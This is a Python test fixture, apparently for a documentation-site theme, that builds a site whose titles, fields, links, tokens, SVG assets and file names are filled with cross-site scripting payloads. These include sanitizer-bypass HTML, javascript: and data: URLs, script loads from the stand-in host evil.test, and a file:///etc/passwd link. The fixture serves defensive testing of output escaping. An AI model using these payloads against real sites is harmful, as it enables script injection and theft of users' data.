"""A site of attacks: every place that a writer fills, filled with what would act if it could.

`alert(…)` and requests to evil.test are what attacks come to; the theme does neither.
"""

import json

# What breaks out of an attribute, an element, a script, a comment, a style sheet or a template.
BREAKERS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{{content}}}<script>alert(1)</script>",
    "${alert(1)}`-alert(1)-`",
    "\\\"-alert(1)-\\\"</script>",
    ";}</style><script src=//evil.test/style></script>",
    "red;background:url(//evil.test/url)",
    "expression(alert(1))url(javascript:alert(1))",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "\u2028alert(1)\u2029<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

# Raw HTML; see the cheat sheets of OWASP and PortSwigger, and how sanitizers were got round.
RAW = [
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=x:x onerror\n=\nalert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1)></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a/></svg>#x\"></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.test/\">",
    "<link rel=stylesheet href=\"//evil.test/x.css\">",
    "<style>@import \"//evil.test/x.css\";</style>",
    "<div style=\"background:url(//evil.test/x)\">x</div>",
    "<p title=\"</p><img src=x onerror=alert(1)>\">x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?x <img src=x onerror=alert(1)> ?>",
    "<!X <img src=x onerror=alert(1)> >",
    "<x onclick=alert(1)>x</x>",
    "<b/onclick=alert(1)>x</b>",
    "<b\nonmouseover=alert(1)\n>x</b>",
    "<table background=\"//evil.test/x\"><tr><td>x</table>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<div id=search-dialog><input name=attributes></div>",
    "<img name=documentElement><form id=filters><input name=querySelectorAll></form>",
    "</div></main></body></html><script>alert(1)</script>",
]

# Addresses that act when they are followed or loaded.
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&nbsp;javascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript://evil.test/%0aalert(1)",
    "%6aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "no\" onmouseover=\"alert(1)",
    "no' onmouseover='alert(1)",
    "#\" onclick=\"alert(1)",
    "?\"><script>alert(1)</script>",
]

# Addresses that no page may hold, so that nothing is built.
REFUSED = ["&#1;javascript:alert(1)", "\u0001javascript:alert(1)"]


def yaml(text):
    """A text as YAML has it in quotes."""
    return json.dumps(text)


def pages():
    """Pages by path: one for each kind of place."""
    made = {}
    made["index.md"] = page("Start", "\n".join(f"- [x](p-{number}.md)" for number in range(len(BREAKERS))))
    for number, breaker in enumerate(BREAKERS):
        bare = breaker.replace("`", "'").replace("\n", " ")
        made[f"p-{number}.md"] = f"""---
title: {yaml(breaker)}
description: {yaml(breaker)}
tags: [{yaml(breaker)}]
lang: en
aliases: ["/old/{number}/"]
---

## {bare}

### Part {{#{bare.split(" ")[0][:20]}}}

{bare}

[{bare.replace("[", "").replace("]", "")}](index.md {yaml(breaker)}) ![{bare}](no.png "{bare.replace('"', "&quot;")}")

| {bare.replace("|", "")} | `{bare.replace("|", "")}` |
| --- | --- |
| {bare.replace("|", "")} | b |

> [!{bare[:20]}]
> {bare}

- [x] {bare}

```{bare}
{breaker}
```

```html {bare}
{breaker}
```

```js
{breaker}
```

    {bare}

{state(number, breaker)}
"""
    made["raw.md"] = page("Raw", "\n\n".join(f"{one}\n\nText {one} more *{one}*.\n\n- {one}\n\n> {one}" for one in RAW))
    made["links.md"] = page(
        "Links",
        "\n\n".join(
            f"[a]({url}) [b](<{url}>) ![c]({url}) ![d](<{url}> \"t\") <{url}> [e][r{number}] [![f]({url})]({url})\n\n"
            f"[r{number}]: {url}\n\n[s{number}]: <{url}> 'q'\n\n[g][s{number}]"
            for number, url in enumerate(ADDRESSES)
        ),
    )
    return made


def page(title, body):
    return f"---\ntitle: {yaml(title)}\n---\n\n{body}\n"


def state(number, text):
    """Specimens with a text in every part."""
    return f"""```state s-{number}
surface: full-page
state: error
view: {yaml(text)}
icon: {yaml(text)}
title: {yaml(text)}
message: {yaml(text)}
label: {yaml(text)}
hint: {yaml(text)}
cause: {yaml(text)}
context: {yaml(text)}
actions:
  - label: {yaml(text)}
    recovery: retry
  - label: {yaml(text + " 2")}
    role: cancel
style:
  icon-color: {yaml(text)}
allow: {{copy/title-length: {yaml(text)}, {yaml(text)}: {yaml(text)}}}
```

```state {text.split(" ")[0]}
surface: banner
state: warning
message: {yaml(text)}
verdict: dont
breaks: [copy/jargon, {yaml(text)}]
because: {yaml(text)}
```

```state t-{number}
surface: toast
state: success
message: {yaml(text)}
lang: {yaml(text)}
```

```swift for=s-{number}
Text({yaml(text)}).foregroundStyle(Color({yaml(text)})) // {text}
```"""


def tokens():
    """A token file with a text in every name, value and description."""
    tree = {"$description": BREAKERS[0]}
    for number, text in enumerate(BREAKERS):
        name = text.translate({ord(sign): "_" for sign in "{}.$"})
        tree[name] = {
            "$description": text,
            "colour": {"$type": "color", "$value": "#112233", "$description": text, "$deprecated": text,
                       "$extensions": {"dev.vitrine": {"names": [text], "ours": True}}},
            "font": {"$type": "fontFamily", "$value": [text, "serif"]},
            "weight": {"$type": "fontWeight", "$value": text},
            "other": {"$type": text, "$value": text},
            "stroke": {"$type": "strokeStyle", "$value": text},
            "shade": {"$type": "color", "$value": {"colorSpace": text, "components": [0, 0, 0], "hex": text}},
            "type": {"$type": "typography", "$value": {"fontFamily": text, "fontSize": {"value": 1, "unit": "rem"},
                     "fontWeight": 400, "letterSpacing": {"value": 0, "unit": "px"}, "lineHeight": 1}},
        }
    return tree


def settings(policy):
    """`site.yaml` with a text wherever one may stand."""
    rows = "\n".join(f"  {yaml(text)}: {{kind: async, title: {yaml(text)}}}" for text in BREAKERS[:6])
    return f"""title: {yaml(BREAKERS[0])}
description: {yaml(BREAKERS[1])}
url: https://example.org/{"a'b<c>"}/
edit: https://example.org/edit/{"'onclick=alert(1)"}/
languages: [en]
markdown: {{raw-html: {policy}}}
rules: {{source: warning, link: warning, token: warning, spec: warning}}
views:
{rows}
"""


# Pictures that act when they are more than a picture.
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
<script>alert(1)</script><image href="//evil.test/i.png"/><use href="//evil.test/u.svg#x"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><img src="x" onerror="alert(1)"/></body></foreignObject>
<a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>
"""


def write(folder, policy):
    """Writes the site into a folder."""
    content = folder / "content"
    (content / "tokens").mkdir(parents=True)
    (content / "assets").mkdir()
    (content / "site.yaml").write_text(settings(policy))
    (content / "tokens" / "site.tokens.json").write_text(json.dumps(tokens()))
    for name, text in pages().items():
        (content / name).write_text(text)
    for name in ("picture.svg", "\"><img src=x onerror=alert(1)>.svg", "'onerror='alert(1).svg"):
        (content / "assets" / name).write_text(SVG)
    names = ["a\"><img src=x onerror=alert(1)>.md", "b' onclick='alert(1).md", "c<script>alert(1)<.md"]
    for name in names:
        body = f"# {name}\n\n![A picture](assets/picture.svg)\n\n[x](<{name}>)\n"
        (content / name.replace("/", "")).write_text(body)
